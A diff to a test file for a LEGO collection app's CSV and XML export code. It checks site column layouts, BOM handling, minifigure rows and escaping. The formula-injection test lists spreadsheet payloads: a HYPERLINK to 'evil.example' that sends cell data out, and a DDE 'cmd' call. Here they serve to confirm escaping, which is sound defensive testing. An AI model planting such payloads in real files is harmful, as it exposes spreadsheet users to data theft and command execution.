@@ -2,7 +2,9 @@ import Papa from 'papaparse'
 import { parseStringPromise } from 'xml2js'
 import { describe, expect, it } from 'vitest'
 import { buildExport } from '../../src/main/exchange/export-formats'
-import { HOSTILE, LABELS, exportSet } from './fixtures'
+import type { ExportCollection, ExportSet } from '../../src/main/exchange/export-formats'
+import { HOSTILE, LABELS, copy, exportSet } from './fixtures'
+import { golden } from './store-fixtures'
 
 /** An independent RFC 4180 parser (papaparse) reads what csv-stringify wrote. */
 function parseBack(content: string): string[][] {
@@ -15,136 +17,175 @@ function parseBack(content: string): string[][] {
 }
 
 const date = '2026-11-22'
+const of = (sets: readonly ExportSet[], minifigs: ExportCollection['minifigs'] = []) => ({
+  sets,
+  minifigs,
+  labels: LABELS
+})
+const header = (name: string): string[] => parseBack(golden(name))[0] ?? []
 
 describe('CSV exports', () => {
-  it('collection list: website layout, one Yes/No column per flag label, parses back row for row', () => {
-    const sets = [
-      exportSet({ flags: [true, false, false, false, false, false, false, true] }),
-      ...HOSTILE
-    ]
-    const file = buildExport('collection', sets, LABELS, { date })
-    const rows = parseBack(file.content)
-    expect(rows[0]).toEqual([
-      'Number',
-      'Set name',
-      'Theme',
-      'Subtheme',
-      'Year',
-      'Pieces',
-      'Minifigs',
-      'UK retail price',
-      'US retail price',
-      'CA retail price',
-      'EU retail price',
-      'Owned',
-      'Wanted',
-      'Qty',
-      'Notes',
-      'Displayed',
-      'Boxed',
-      'Flag 3',
-      'Sealed',
-      'For sale',
-      'Gift',
-      'Flag 7',
-      'Flag 8'
-    ])
-    expect(rows[1]).toEqual([
-      '10179-1',
-      'Millennium Falcon',
-      'Star Wars',
-      'Ultimate Collector Series',
-      '2007',
-      '5195',
-      '5',
-      '342.49',
-      '499.99',
-      '',
-      '',
-      'Yes',
-      'No',
-      '1',
-      '',
-      'Yes',
-      'No',
-      'No',
-      'No',
-      'No',
-      'No',
-      'No',
-      'Yes'
-    ])
-    expect(rows).toHaveLength(1 + sets.length)
-    expect(file.rows).toBe(sets.length)
-    // Quotes, commas and line breaks survive the round trip exactly.
-    expect(rows[3]?.[1]).toBe('Quotes "inside", commas, and\r\nline breaks')
-    expect(rows[4]?.[1]).toBe('Émile’s 🧱 set')
+  it('Brickset: the site’s columns in order, one Yes/No column per flag label, values in place', () => {
+    const sets = [exportSet({ flags: [true, false, false, false, false, false, false, true] })]
+    const rows = parseBack(buildExport('collection', of(sets), { date }).content)
+    const site = header('brickset-sets-current.csv')
+    // The golden file's flag columns are another user's labels; ours are named by LABELS.
+    expect(rows[0]?.slice(0, 24)).toEqual(site.slice(0, 24))
+    expect(rows[0]?.slice(24, 32)).toEqual(LABELS.map((l) => l.label || `Flag ${l.flagNo}`))
+    expect(rows[0]?.slice(32)).toEqual(site.slice(32))
+    const row = Object.fromEntries((rows[0] ?? []).map((h, i) => [h, rows[1]?.[i]]))
+    expect(row).toMatchObject({
+      Number: '10179-1',
+      'Set name': 'Millennium Falcon',
+      'RRP (GBP)': '342.49',
+      'RRP (USD)': '499.99',
+      EAN: '5702014518926',
+      Width: '58.2',
+      Weight: '9.55',
+      'Qty owned': '1',
+      Wanted: 'No',
+      'Qty wanted': '0',
+      Displayed: 'Yes',
+      'Flag 8': 'Yes',
+      Boxed: 'No',
+      'Launch date': '2007-10-01',
+      'Exit date': ''
+    })
   })
 
   it('formula injection: every cell starting with = + - @ or a tab comes out as text', () => {
-    for (const format of ['collection', 'studbook'] as const) {
-      const rows = parseBack(buildExport(format, HOSTILE, LABELS, { date }).content)
+    for (const format of ['collection', 'studbook', 'brickeconomy'] as const) {
+      const rows = parseBack(buildExport(format, of(HOSTILE), { date }).content)
       for (const row of rows) {
         for (const cell of row) expect(cell, `${format}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
       }
-      const all = rows.flat()
-      expect(all).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`)
-      expect(all).toContain(`'+SUM(1,2)`)
-      expect(all).toContain(`'-2+3`)
-      expect(all).toContain(`'@cmd|' /C calc'!A0`)
-      expect(all).toContain(`'\tTabbed =1+1`)
     }
+    const all = parseBack(buildExport('collection', of(HOSTILE), { date }).content).flat()
+    expect(all).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`)
+    expect(all).toContain(`'+SUM(1,2)`)
+    expect(all).toContain(`'-2+3`)
+    expect(all).toContain(`'@cmd|' /C calc'!A0`)
+    expect(all).toContain(`'\tTabbed =1+1`)
   })
 
-  it('studbook full: a row per copy with every copy field, flags by label; sets without copies once', () => {
-    const file = buildExport('studbook', HOSTILE, LABELS, { date })
+  it('studbook full: a row per copy with every copy field, flags by number and name, minifigures', () => {
+    const file = buildExport(
+      'studbook',
+      of(HOSTILE, [
+        { number: 'sw0001a', name: 'Luke', category: 'Star Wars', ownedLoose: 2, wanted: false }
+      ]),
+      { date }
+    )
     const rows = parseBack(file.content)
-    const header = rows[0] ?? []
-    expect(header).toContain('Current estimated value')
-    expect(rows).toHaveLength(1 + 1 + 1 + 2)
-    const col = (name: string) => header.indexOf(name)
-    const first = rows[1] ?? []
-    expect(first[col('Flags')]).toBe('Displayed; Sealed')
+    const head = rows[0] ?? []
+    expect(head).toContain('Current estimated value')
+    expect(head.filter((h) => h.startsWith('Flag '))).toEqual([
+      'Flag 1 (Displayed)',
+      'Flag 2 (Boxed)',
+      'Flag 3',
+      'Flag 4 (Sealed)',
+      'Flag 5 (For sale)',
+      'Flag 6 (Gift)',
+      'Flag 7',
+      'Flag 8'
+    ])
+    expect(rows).toHaveLength(1 + 1 + 1 + 2 + 1)
+    const col = (name: string) => head.indexOf(name)
+    expect(rows[1]?.[col('Flag 1 (Displayed)')]).toBe('Yes')
+    expect(rows[1]?.[col('Flag 4 (Sealed)')]).toBe('Yes')
     const copies = rows.filter((r) => r[col('Set ID')] === '3')
     expect(copies.map((r) => r[col('Currency')])).toEqual(['GBP', 'USD'])
     expect(copies.map((r) => r[col('Copy ID')])).toEqual(['7', ''])
     expect(copies[1]?.[col('Price paid')]).toBe('10.5')
     expect(copies[0]?.[col('Copy notes')]).toBe("'=1+1")
-    expect(copies[0]?.[col('Flags')]).toBe('Flag 8')
+    const fig = rows.at(-1) ?? []
+    expect([fig[col('Kind')], fig[col('Number')], fig[col('Qty owned')]]).toEqual([
+      'Minifigure',
+      'sw0001a',
+      '2'
+    ])
+    // Text is quoted, so surrounding spaces survive spreadsheets and our own reader.
+    expect(file.content.split('\r\n')[1]).toMatch(/^"Set",1,"1-1",/)
   })
 
-  it('rebrickable: owned sets only, with their quantity, in Rebrickable columns', () => {
-    const rows = parseBack(buildExport('rebrickable', HOSTILE, LABELS, { date }).content)
-    expect(rows).toEqual([
-      ['Set Number', 'Quantity', 'Includes Spares', 'Inventory ver'],
+  it('rebrickable: owned sets only, with their quantity, the site’s header, no BOM even if asked', () => {
+    const file = buildExport('rebrickable', of(HOSTILE), { date, bom: true })
+    expect(file.content.charCodeAt(0)).not.toBe(0xfeff)
+    expect(parseBack(file.content)).toEqual([
+      header('rebrickable-set-list.csv'),
       ['1-1', '1', 'True', '1'],
       ['3-1', '2', 'True', '1']
     ])
   })
 
-  it('optional UTF-8 BOM', () => {
-    const withBom = buildExport('rebrickable', HOSTILE, LABELS, { date, bom: true }).content
-    const without = buildExport('rebrickable', HOSTILE, LABELS, { date }).content
-    expect(withBom.charCodeAt(0)).toBe(0xfeff)
-    expect(without.charCodeAt(0)).not.toBe(0xfeff)
-    expect(withBom.slice(1)).toBe(without)
+  it('BrickEconomy: the per-copy header, a row per owned unit, money with its symbol, day first', () => {
+    const sets = [
+      exportSet({
+        qtyOwned: 3,
+        copies: [
+          {
+            ...copy({
+              currency: 'EUR',
+              pricePaid: 40.08,
+              conditionWhenAcquired: 'Used - complete',
+              dateAcquired: '2025-07-03'
+            }),
+            collectionID: 1
+          },
+          {
+            ...copy({ currency: 'GBP', pricePaid: 12, conditionWhenAcquired: 'Sealed' }),
+            collectionID: 2
+          }
+        ]
+      }),
+      exportSet({ setID: 2, fullNumber: '2-1', owned: false, wanted: true, qtyOwned: 0 })
+    ]
+    const file = buildExport('brickeconomy', of(sets), { date, bom: true })
+    expect(file.content.charCodeAt(0)).not.toBe(0xfeff)
+    const rows = parseBack(file.content)
+    expect(rows[0]).toEqual(header('brickeconomy-collection-eu.csv'))
+    expect(rows.slice(1).map((r) => r.slice(5))).toEqual([
+      ['', '€40.08', '€120.00', 'UsedComplete', '03/07/2025', ''],
+      ['£342.49', '£12.00', '£120.00', '', '24/12/2021', ''],
+      ['', '', '', '', '', '']
+    ])
+    expect(file.rows).toBe(3)
   })
 
-  it('bricklink: a well-formed wanted list of the wanted sets, text escaped', async () => {
+  it('optional UTF-8 BOM on the spreadsheet files', () => {
+    for (const format of ['studbook', 'collection'] as const) {
+      const withBom = buildExport(format, of(HOSTILE), { date, bom: true }).content
+      const without = buildExport(format, of(HOSTILE), { date }).content
+      expect(withBom.charCodeAt(0)).toBe(0xfeff)
+      expect(without.charCodeAt(0)).not.toBe(0xfeff)
+      expect(withBom.slice(1)).toBe(without)
+    }
+  })
+
+  it('bricklink: no declaration, wanted sets and minifigures, text escaped', async () => {
     const sets = [
       exportSet({ setID: 9, fullNumber: '9-1', wanted: true, notes: 'a <b> & "c"' }),
       ...HOSTILE
     ]
-    const file = buildExport('bricklink', sets, LABELS, { date })
+    const file = buildExport(
+      'bricklink',
+      of(sets, [
+        { number: 'sw0001a', name: 'Luke', category: '', ownedLoose: 0, wanted: true },
+        { number: 'hp150', name: 'Harry', category: '', ownedLoose: 1, wanted: false }
+      ]),
+      { date, bom: true }
+    )
+    expect(file.content.startsWith('<INVENTORY>\n')).toBe(true)
     // xml2js (sax, strict) throws on anything that is not well-formed.
     const doc = (await parseStringPromise(file.content, { explicitArray: false, trim: false })) as {
       INVENTORY: { ITEM: Record<string, string>[] }
     }
     expect(doc.INVENTORY.ITEM).toEqual([
       { ITEMTYPE: 'S', ITEMID: '9-1', MINQTY: '1', NOTIFY: 'N', REMARKS: 'a <b> & "c"' },
-      { ITEMTYPE: 'S', ITEMID: '2-1', MINQTY: '1', NOTIFY: 'N', REMARKS: '\tTabbed =1+1' }
+      { ITEMTYPE: 'S', ITEMID: '2-1', MINQTY: '1', NOTIFY: 'N', REMARKS: '\tTabbed =1+1' },
+      { ITEMTYPE: 'M', ITEMID: 'sw0001a', MINQTY: '1', NOTIFY: 'N' }
     ])
-    expect(file.rows).toBe(2)
+    expect(file.rows).toBe(3)
     expect(file.filename).toBe('bricklink-wanted-2026-11-22.xml')
   })
 })
